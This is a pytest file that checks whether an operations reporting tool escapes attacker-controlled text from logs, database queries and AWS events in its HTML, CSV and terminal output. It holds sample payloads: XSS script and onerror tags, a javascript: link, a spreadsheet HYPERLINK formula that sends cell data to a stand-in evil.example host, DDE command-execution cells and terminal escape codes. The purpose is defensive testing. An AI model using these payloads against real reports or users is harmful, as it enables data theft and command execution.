"""Hostile content: what the inspected systems say is attacker-influenced and reaches reports escaped.

End to end: payloads are written as application log lines into a log group of the served demo's
AWS (moto), the log-analysis runbook runs through papermill and the report exporter, and its HTML report,
its CSV tables and the command's terminal output are searched. SQL text is seeded for real in
PostgreSQL's pg_stat_activity and goes through the database check and the report helpers.
"""

from __future__ import annotations

import contextlib
import csv
import io
import threading
import time
from datetime import UTC, datetime
from pathlib import Path

import boto3
import pytest
import yaml

from rmsops import cli
from rmsops.render import report

PAYLOADS = [
    "<script>alert('rmsops')</script>",
    '<img src=x onerror="alert(1)">',
    "[click me](javascript:alert(1))",
    '=HYPERLINK("http://evil.example/steal?d="&A1,"help")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\x1b[2J\x1b[31mTERMINAL HIJACK\x1b[0m",
    "x" * 20000,
]
# What would act if it were there raw: markup, a link, a terminal escape. (The text of a markdown
# link is harmless in HTML output: nothing renders outputs as markdown, which the header cell
# no longer uses either.)
RAW_MARKERS = ["<script>alert", "<img src=x onerror", "\x1b[", 'href="javascript:', "href='javascript:"]


@pytest.fixture(scope="module")
def hostile_logs(demo_incident, tmp_path_factory):
    """A copy of the demo environment whose backend log group holds the payloads as ERROR lines."""
    settings = yaml.safe_load(Path(demo_incident.env_file).read_text())
    group = "/ecs/rms-backend-hostile"
    logs = boto3.client("logs", endpoint_url=settings["aws"]["endpoint_url"], region_name=settings["aws"]["region"],
                        aws_access_key_id="testing", aws_secret_access_key="testing")
    logs.create_log_group(logGroupName=group)
    logs.create_log_stream(logGroupName=group, logStreamName="hostile")
    now = int(datetime.now(UTC).timestamp() * 1000)
    logs.put_log_events(logGroupName=group, logStreamName="hostile", logEvents=[
        {"timestamp": now - 60_000 * (len(PAYLOADS) - i), "message": f"ERROR [rms.api] {payload}"}
        for i, payload in enumerate(PAYLOADS)])  # oldest first, as the API requires
    settings["logs"] = {"backend": group}
    env_file = tmp_path_factory.mktemp("hostile") / "hostile.yaml"
    env_file.write_text(yaml.safe_dump(settings))
    return env_file


@pytest.fixture(scope="module")
def report_run(hostile_logs, tmp_path_factory):
    out = tmp_path_factory.mktemp("hostile-run") / "11"
    stdout, stderr = io.StringIO(), io.StringIO()
    with contextlib.redirect_stdout(stdout), contextlib.redirect_stderr(stderr):
        code = cli.main(["run", "11", "-e", str(hostile_logs), "-o", str(out)])
    return out, code, stdout.getvalue() + stderr.getvalue()


def test_the_payloads_reached_the_report(report_run):
    out, code, printed = report_run
    assert code in (0, 1), printed
    html = (out / "11-log-analysis.html").read_text(encoding="utf-8")
    assert "&lt;script&gt;alert(" in html  # they are there, as text
    assert "HYPERLINK" in html


def test_the_html_report_holds_them_only_escaped(report_run):
    out, _, _ = report_run
    html = (out / "11-log-analysis.html").read_text(encoding="utf-8")
    for marker in RAW_MARKERS:
        assert marker not in html, marker
    assert "x" * 5000 not in html, "very long lines are cut, not pasted whole"


def test_csv_cells_cannot_run_as_formulas(report_run):
    out, _, _ = report_run
    tables = list((out / "tables").glob("*.csv"))
    assert tables
    cells = [cell for table in tables for row in csv.reader(io.StringIO(table.read_text(encoding="utf-8")))
             for cell in row]
    assert any("HYPERLINK" in cell for cell in cells)
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")
                and not _plain_number(cell)]


def _plain_number(cell: str) -> bool:
    try:
        float(cell)
        return True
    except ValueError:
        return False


def test_the_terminal_output_carries_no_control_sequences(report_run):
    _, _, printed = report_run
    assert "\x1b" not in printed
    assert "TERMINAL HIJACK" not in printed or "\x1b[2J" not in printed


def test_sql_text_from_pg_stat_activity_is_escaped(monitor_env, pg_server):
    """A running statement whose text carries the payloads, seen by db.queries.long_running."""
    comment = " ".join(p for p in PAYLOADS[:4]).replace("*/", "")
    done = threading.Event()

    def hold() -> None:
        with pg_server.connect_app(autocommit=True) as conn:
            conn.execute(f"SELECT pg_sleep(4) /* {comment} */")
        done.set()

    threading.Thread(target=hold, daemon=True).start()
    time.sleep(1.5)
    ctx = monitor_env(thresholds={"long_query_warning_seconds": 1})
    result = ctx.run("db.queries.long_running")
    done.wait(10)
    html = report.findings_html(result.findings, "t") + report.table_html(result.data)
    assert "&lt;script&gt;" in html
    for marker in RAW_MARKERS:
        assert marker not in html


# --- every other source, from the raw API shape through the check's own parsing and judging ---


def _rendered(findings, frame) -> tuple[str, list[object], str]:
    html = report.findings_html(findings, "t") + report.table_html(frame)
    cells = [report.csv_safe(v) for v in frame.astype(str).to_numpy().ravel()]
    terminal = "\n".join(report.clean(f"{f.title} {f.detail}") for f in findings)
    return html, cells, terminal


def _assert_harmless(html: str, cells: list[object], terminal: str) -> None:
    for marker in RAW_MARKERS:
        assert marker not in html, marker
    assert "&lt;script&gt;" in html or "&lt;img" in html, "the payload should be shown, escaped"
    assert not [c for c in cells if isinstance(c, str) and c[:1] in ("=", "+", "@")]
    assert "\x1b" not in terminal


def test_waf_log_fields(monkeypatch):
    import json as _json

    import pandas as pd

    from rmsops.checks import security
    from rmsops.core.thresholds import DEFAULTS

    record = {"action": "BLOCK", "terminatingRuleId": PAYLOADS[0],
              "httpRequest": {"clientIp": '=HYPERLINK("http://evil")', "uri": PAYLOADS[1] + PAYLOADS[6]}}
    events = pd.DataFrame({"message": [_json.dumps(record)] * 500})
    frame = security.waf_aggregate(events)
    _assert_harmless(*_rendered(security.judge_waf_blocks(frame, 0, dict(DEFAULTS), "aws-waf-logs-rms"), frame))


def test_cloudtrail_fields():
    import json as _json

    from rmsops.checks import security
    from rmsops.sources import cloudtrail

    detail = {"userIdentity": {"type": "IAMUser", "userName": PAYLOADS[0], "arn": PAYLOADS[1]},
              "sourceIPAddress": '=HYPERLINK("http://evil")', "userAgent": PAYLOADS[6],
              "requestParameters": {"groupId": PAYLOADS[1], "ipPermissions": {"items": [{"cidrIp": "0.0.0.0/0"}]}}}
    raw = [{"EventName": "AuthorizeSecurityGroupIngress", "EventTime": datetime.now(UTC), "EventSource":
            "ec2.amazonaws.com", "Username": PAYLOADS[0], "CloudTrailEvent": _json.dumps(detail)}]
    frame = cloudtrail.frame_of(raw)
    _assert_harmless(*_rendered(security.judge_cloudtrail(frame), frame))


def test_target_health_reasons():
    import pandas as pd

    from rmsops.checks import alb

    frame = pd.DataFrame([{"group": "rms-backend", "target": "10.0.0.1", "port": 8080, "state": "unhealthy",
                           "reason": PAYLOADS[0], "description": PAYLOADS[1] + PAYLOADS[6] + PAYLOADS[3]}],
                         columns=alb.TARGET_COLUMNS)
    _assert_harmless(*_rendered(alb.judge_target_health(frame), frame))


def test_ecs_event_messages():
    from rmsops.checks import deploy

    now = datetime.now(UTC)
    answer = {"services": [{"serviceName": "rms-backend", "events": [
        {"createdAt": now, "message": f"(service rms-backend) has started 1 tasks: {PAYLOADS[0]} {PAYLOADS[6]}"},
        {"createdAt": now, "message": f"(service rms-backend) is unable to consistently start tasks "
                                      f"successfully. {PAYLOADS[1]} {PAYLOADS[3]}"}]}]}
    frame = deploy.events_frame(answer, ("rms-backend",), now.replace(year=now.year - 1), now)
    _assert_harmless(*_rendered(deploy.judge_events(frame, ("rms-backend",), "rms-production"), frame))
